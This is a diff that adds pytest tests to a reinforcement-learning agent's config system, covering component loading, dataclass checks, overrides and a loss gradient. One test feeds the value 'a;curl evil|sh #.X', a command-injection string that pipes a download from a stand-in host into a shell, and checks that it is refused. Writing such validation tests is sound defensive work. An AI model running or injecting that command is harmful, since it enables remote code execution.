@@ -16,6 +16,7 @@ from ami_agent import config_io, custom
 from ami_agent.ablation import variants
 from ami_agent.cli.main import main
 from ami_agent.config import build
+from ami_agent.training.actor_critic import choice_loss
 from modules.types import ConfigError
 from tests.conftest import error_line
 
@@ -48,6 +49,7 @@ def files(tmp_path, monkeypatch):
         (tmp_path / name).write_text(text)
     monkeypatch.chdir(tmp_path)
     monkeypatch.setattr(custom, "_named", {})
+    monkeypatch.setattr(custom, "_known", {})
     monkeypatch.setattr(sys, "path", [*sys.path])
     yield tmp_path
     for name in [name for name in sys.modules if name.startswith("_ami_my_")]:
@@ -85,7 +87,8 @@ def test_a_run_folder_makes_no_file_be_imported(files, capsys):
     folder = files / "runs" / "two-rooms" / "0"
     assert '"my_encoder.MyEncoderConfig"' in (folder / "config.json").read_text()
     (files / "my_encoder.py").write_text("raise SystemExit('imported')")
-    del custom._named["my_encoder"]
+    custom._named.clear()
+    custom._known.clear()
     message = error_line(capsys, "eval", folder, "--episodes", 1)
     assert "my_encoder.MyEncoderConfig" in message
     assert "--import my_encoder.py" in message
@@ -238,3 +241,60 @@ def test_a_recipe_function_must_return_a_config(files, capsys):
 )
 def test_an_old_flag_names_the_new_one(old, new, capsys):
     assert f"{old} is called {new}" in error_line(capsys, "train", "two-rooms", old, "3")
+
+
+def test_a_class_that_a_named_file_only_imports_is_refused(files):
+    """A run folder may not reach through a file of the user's to what that file imports."""
+    (files / "mine.py").write_text("from ami_agent import EnvConfig\n")
+    custom.allow_components(["mine.py"])
+    with pytest.raises(ConfigError, match="mine defines no class 'EnvConfig'"):
+        custom.component_class("mine.EnvConfig")
+    with pytest.raises(ConfigError, match=r"is no class, MODULE\.CLASS"):
+        custom.component_class("a;curl evil|sh #.X")
+
+
+def test_settings_must_be_frozen_and_name_what_is_needed(files, tiny):
+    (files / "soft.py").write_text(
+        "from dataclasses import dataclass\n@dataclass\nclass Soft:\n    def build(self): ...\n"
+    )
+    custom.allow_components(["soft.py"])
+    with pytest.raises(ConfigError, match=r"soft\.Soft is no frozen dataclass"):
+        custom.component_class("soft.Soft")
+    with closing(tiny.env.build(1)) as env, pytest.raises(ConfigError, match="has no horizon"):
+        build(ami.override(tiny, {"actor.planner": NoBuildConfig()}), env.spec)
+
+
+def test_the_weight_of_a_further_cost_is_a_flag_and_a_class_is_named_once(files):
+    base = ami.recipes.two_rooms()
+    flags = [
+        "--intrinsic.smoothness",
+        "my_cost.SmoothnessConfig",
+        "--intrinsic.smoothness.weight=2",
+    ]
+    custom.allow_components(["my_cost.py"])
+    config, left = config_io.choose_components(base, flags)
+    assert config.cost.intrinsic["smoothness"].weight == 2.0
+    assert left == []
+    with pytest.raises(ConfigError, match="--planner is given 2 times"):
+        config_io.choose_components(base, ["--planner", "CEM", "--planner", "MPPI"])
+
+
+def test_override_keeps_values_of_none_and_refuses_a_part_beside_its_whole():
+    base = ami.override(ami.recipes.two_rooms(), {"env.options": {"a": None, "b": 1}})
+    assert ami.override(base, {"env.options.b": 2}).env.options == {"a": None, "b": 2}
+    whole = ami.components.CEMConfig()
+    for changes in (
+        {"actor.planner.horizon": 3, "actor.planner": whole},
+        {"actor.planner": whole, "actor.planner.horizon": 3},
+    ):
+        with pytest.raises(ConfigError, match="can't be changed beside"):
+            ami.override(base, changes)
+    with pytest.raises(ConfigError, match="recipe is 'two-rooms', which has no parts to change"):
+        ami.override(base, {"recipe.x": 1})
+
+
+def test_options_of_one_energy_teach_the_policy_nothing_but_rounding_none():
+    energy = 1e4 + 1e-3 * torch.tensor([[0.0, 1.0, 0.0]])
+    logits = torch.zeros(1, 3, requires_grad=True)
+    (slope,) = torch.autograd.grad(choice_loss(logits, energy, (3,))["choice"], logits)
+    assert slope.abs().max() < 0.25
